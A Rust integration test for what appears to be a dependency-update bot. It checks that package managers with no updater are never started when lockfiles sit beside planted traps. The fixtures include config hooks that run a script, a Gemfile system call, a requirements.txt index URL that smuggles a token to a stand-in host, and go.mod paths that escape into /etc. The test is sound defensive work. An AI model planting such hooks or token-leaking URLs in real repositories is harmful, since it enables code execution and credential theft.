//! Package managers that have no updater are never started, whatever lies beside their lockfiles: what each of them would
//! run or leak (design/remedy.md A.0) stays text in a repository.

use std::os::unix::fs::PermissionsExt as _;

use serde_json::json;

use crate::support::bot::Bot;
use crate::support::github::GitHub;

/// Programs that only a package manager without an updater needs.
const PROGRAMS: [&str; 22] = [
    "yarn",
    "yarnpkg",
    "corepack",
    "pnpm",
    "pnpx",
    "npx",
    "bun",
    "deno",
    "python",
    "python3",
    "pip",
    "pip3",
    "pip-compile",
    "uv",
    "poetry",
    "pipenv",
    "pdm",
    "bundle",
    "gem",
    "ruby",
    "go",
    "gradle",
];

/// One repository for each: its files, and the package of which its lockfile holds a vulnerable version.
struct Row {
    slug: &'static str,
    ecosystem: &'static str,
    package: &'static str,
    files: Vec<(&'static str, String)>,
}

#[expect(clippy::too_many_lines, reason = "one table with a row for each package manager")]
fn rows(trap: &str) -> Vec<Row> {
    let manifest = |extra: &str| format!(r#"{{"name": "shop", "dependencies": {{"left-pad": "1.0.0"}}{extra}}}"#);
    let row = |slug, ecosystem, package, files| Row { slug, ecosystem, package, files };
    vec![
        row(
            "yarn-classic",
            "npm",
            "left-pad",
            vec![
                ("package.json", manifest("")),
                ("yarn.lock", "# yarn lockfile v1\n\n\nleft-pad@1.0.0:\n  version \"1.0.0\"\n  resolved \"https://registry.example/left-pad/-/left-pad-1.0.0.tgz#0000000000000000000000000000000000000000\"\n".to_owned()),
                (".yarnrc", format!("yarn-path \"{trap}\"\n")),
            ],
        ),
        row(
            "yarn-berry",
            "npm",
            "left-pad",
            vec![
                ("package.json", manifest("")),
                ("yarn.lock", "__metadata:\n  version: 8\n  cacheKey: 10c0\n\n\"left-pad@npm:1.0.0\":\n  version: 1.0.0\n  resolution: \"left-pad@npm:1.0.0\"\n  languageName: node\n  linkType: hard\n\n\"shop@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: \"shop@workspace:.\"\n  dependencies:\n    left-pad: \"npm:1.0.0\"\n  languageName: unknown\n  linkType: soft\n".to_owned()),
                (".yarnrc.yml", format!("yarnPath: \"{trap}\"\nplugins:\n  - path: \"{trap}\"\n")),
            ],
        ),
        row(
            "pnpm",
            "npm",
            "left-pad",
            vec![
                ("package.json", manifest(r#", "packageManager": "pnpm@9.0.0""#)),
                ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      left-pad:\n        specifier: 1.0.0\n        version: 1.0.0\n\npackages:\n\n  left-pad@1.0.0:\n    resolution: {integrity: sha512-AAAA}\n\nsnapshots:\n\n  left-pad@1.0.0: {}\n".to_owned()),
                (".pnpmfile.cjs", format!("require('child_process').execFileSync('{trap}')\n")),
                (".npmrc", format!("global-pnpmfile={trap}\n")),
            ],
        ),
        row(
            "requirements",
            "PyPI",
            "jinja2",
            vec![("requirements.txt", "--index-url https://registry.example/${PATCHPARTY_TOKEN}/simple\njinja2==2.0\n".to_owned())],
        ),
        row(
            "poetry",
            "PyPI",
            "jinja2",
            vec![
                ("pyproject.toml", "[tool.poetry]\nname = \"shop\"\nversion = \"1.0.0\"\n[tool.poetry.dependencies]\npython = \"^3.11\"\njinja2 = \"2.0\"\n".to_owned()),
                ("poetry.lock", "[[package]]\nname = \"jinja2\"\nversion = \"2.0\"\ndescription = \"\"\noptional = false\npython-versions = \"*\"\nfiles = []\n\n[metadata]\nlock-version = \"2.0\"\npython-versions = \"^3.11\"\ncontent-hash = \"0\"\n".to_owned()),
                (".poetry/plugins/entry_points.txt", format!("[poetry.plugin]\nx = {trap}\n")),
            ],
        ),
        row(
            "uv",
            "PyPI",
            "jinja2",
            vec![
                ("pyproject.toml", "[project]\nname = \"shop\"\nversion = \"1.0.0\"\ndynamic = [\"dependencies\"]\n[build-system]\nrequires = []\nbuild-backend = \"trap\"\nbackend-path = [\".\"]\n".to_owned()),
                ("uv.lock", "version = 1\nrequires-python = \">=3.11\"\n\n[[package]]\nname = \"jinja2\"\nversion = \"2.0\"\nsource = { registry = \"https://registry.example/simple\" }\n\n[[package]]\nname = \"shop\"\nversion = \"1.0.0\"\nsource = { editable = \".\" }\ndependencies = [{ name = \"jinja2\" }]\n".to_owned()),
                (".python-version", format!("{trap}\n")),
            ],
        ),
        row(
            "bundler",
            "RubyGems",
            "rack",
            vec![
                ("Gemfile", format!("system '{trap}'\nsource 'https://registry.example'\ngem 'rack', '1.0.0'\n")),
                ("Gemfile.lock", "GEM\n  remote: https://registry.example/\n  specs:\n    rack (1.0.0)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  rack (= 1.0.0)\n\nBUNDLED WITH\n   2.3.15\n".to_owned()),
                (".bundle/config", "---\nBUNDLE_MIRROR__ALL: \"https://registry.example/\"\n".to_owned()),
            ],
        ),
        row(
            "go",
            "Go",
            "example.com/text",
            vec![
                ("go.mod", "module example.com/shop\n\ngo 1.22\n\ntoolchain go1.99.5\n\nrequire example.com/text v1.0.0\n\nreplace example.com/etc => ../../../etc\n".to_owned()),
                ("go.sum", "example.com/text v1.0.0 h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\nexample.com/text v1.0.0/go.mod h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n".to_owned()),
                ("go.work", "go 1.22\nuse ./../..\n".to_owned()),
            ],
        ),
    ]
}

#[test]
fn what_no_updater_handles_is_reported_and_no_program_of_it_is_started() {
    let github = GitHub::start();
    let mut bot = Bot::new(&github);
    let canary = bot.path("CANARY").display().to_string();
    let trap = format!("#!/bin/sh\necho \"$0 $*\" >> '{canary}'\nexit 1\n");
    for program in PROGRAMS.iter().map(|name| format!("bin/{name}")).chain(["trap.sh".to_owned()]) {
        let path = bot.write(&program, trap.as_bytes());
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("the world is ours");
    }
    let rows = rows(&bot.path("trap.sh").display().to_string());
    for row in &rows {
        let files: Vec<(String, Vec<u8>)> =
            row.files.iter().map(|(path, text)| ((*path).to_owned(), text.clone().into_bytes())).collect();
        github.repository("acme", row.slug).files(files).commit();
        let record = json!({
            "id": format!("OSV-2026-{}", row.slug), "modified": "2026-01-01T00:00:00Z", "summary": "A flaw.",
            "affected": [{
                "package": { "ecosystem": row.ecosystem, "name": row.package },
                "ranges": [{ "type": "ECOSYSTEM", "events": [{ "introduced": "0" }, { "fixed": "9.0.0" }] }],
            }],
        });
        bot.write(&format!("rows/{}.json", row.slug), record.to_string().as_bytes());
    }
    bot.learn(bot.path("rows"));
    // Without the sandbox: a program that was started would be able to leave its mark.
    let policy = bot.write("patchparty.toml", b"sandbox = \"off\"\n").display().to_string();
    let night = bot.run(&["run", "--org", "acme", "--config", &policy, "--format", "json"]);
    for row in &rows {
        let report = night.explanation(&format!("acme/{}", row.slug));
        assert!(report.contains("9.0.0") && report.contains("blocked"), "{}: {report}", row.slug);
        assert!(night.actions(&format!("acme/{}", row.slug)).is_empty(), "{}", row.slug);
    }
    let started = std::fs::read_to_string(bot.path("CANARY")).unwrap_or_default();
    assert_eq!(started, "", "none of these is started");
    github.finish();
}
